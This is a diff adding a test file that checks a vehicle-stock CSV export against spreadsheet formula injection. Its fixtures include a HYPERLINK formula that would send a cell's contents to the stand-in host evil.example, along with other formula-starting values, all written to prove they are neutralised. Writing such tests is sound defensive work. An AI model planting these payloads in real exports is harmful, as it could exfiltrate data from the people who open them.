@@ -1,0 +1,90 @@
+// Issue 36 item 3: the stock export must not write formulas (OWASP CSV injection). The export is
+// read back the way a spreadsheet reads a CSV file (RFC 4180 cells; a cell whose text starts with
+// = + - or @, after any leading tab or carriage return, is a formula) and then imported again.
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import type { Vehicle } from '~/lib/vehicle';
+import { parseVehicleCsv, vehiclesToCsv } from '~/lib/vehicle-csv';
+
+const STORAGE = 'http://127.0.0.1:54321/storage/v1/object/public/vehicle-images/';
+
+/** CSV text → its cells as a spreadsheet shows them, and which of them it would evaluate. */
+function openAsSpreadsheet(csv: string): { cells: string[][]; formulas: string[] } {
+  const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',' }).data.filter((r) => r.length > 1);
+  const formulas = cells.flat().filter((c) => /^[\t\r]*[=+\-@]/.test(c));
+  return { cells, formulas };
+}
+
+const car = (over: Partial<Vehicle>): Vehicle => ({
+  id: 'a',
+  make: 'Porsche',
+  model: '911',
+  year: 2021,
+  price: 980000,
+  mileage: 12000,
+  fuelType: 'Gasoline',
+  transmission: 'Manual',
+  condition: 'Very Good',
+  bodyType: 'Coupe',
+  color: 'GT Silver',
+  features: ['PASM'],
+  images: ['/seed/p2.svg'],
+  vehicleDetails: '',
+  status: 'available',
+  origin: 'Recond',
+  registrationYear: 2022,
+  previousOwners: 1,
+  warrantyMonths: 12,
+  engineCapacityCc: 2981,
+  stockNumber: 'P-911',
+  previousPrice: null,
+  priceReducedAt: null,
+  createdAt: '2026-01-01T00:00:00Z',
+  updatedAt: '2026-01-01T00:00:00Z',
+  ...over,
+});
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+const attack = car({
+  make: HYPERLINK,
+  model: '+SUM(1,2)',
+  color: "'=kept apostrophe",
+  features: ['-2+3', '@SUM(A1:A9)'],
+  vehicleDetails: '=1+1\nsecond line',
+});
+
+describe('vehiclesToCsv against CSV injection', () => {
+  it('writes no cell a spreadsheet would evaluate, each shown as text behind an apostrophe', () => {
+    const { cells, formulas } = openAsSpreadsheet(vehiclesToCsv([attack]));
+    expect(formulas).toEqual([]);
+    const row = cells[1] ?? [];
+    const header = cells[0] ?? [];
+    const cell = (name: string) => row[header.indexOf(name)];
+    expect(cell('make')).toBe(`'${HYPERLINK}`);
+    expect(cell('model')).toBe("'+SUM(1,2)");
+    expect(cell('color')).toBe("''=kept apostrophe");
+    expect(cell('features')).toBe("'-2+3, @SUM(A1:A9)");
+    expect(cell('fuel_type')).toBe('Gasoline');
+    expect(cell('vehicle_details')).toBe("'=1+1\nsecond line");
+    expect(cell('stock_number')).toBe('P-911');
+  });
+
+  it('neutralises a cell that starts with a tab or a carriage return', () => {
+    const csv = vehiclesToCsv([car({ make: '\t=1+1', model: '\r=1+1' })]);
+    expect(openAsSpreadsheet(csv).formulas).toEqual([]);
+    expect(csv).toContain(`"'\t=1+1","'\r=1+1"`);
+  });
+
+  it('imports its own export back to the same values', () => {
+    const parsed = parseVehicleCsv(new TextEncoder().encode(vehiclesToCsv([attack])).buffer as ArrayBuffer, STORAGE);
+    if (!parsed.ok) throw new Error(parsed.message);
+    expect(parsed.rows[0]?.error).toBeNull();
+    expect(parsed.rows[0]?.input).toMatchObject({
+      make: HYPERLINK,
+      model: '+SUM(1,2)',
+      color: "'=kept apostrophe",
+      features: ['-2+3', '@SUM(A1:A9)'],
+      vehicleDetails: '=1+1\nsecond line',
+    });
+  });
+});
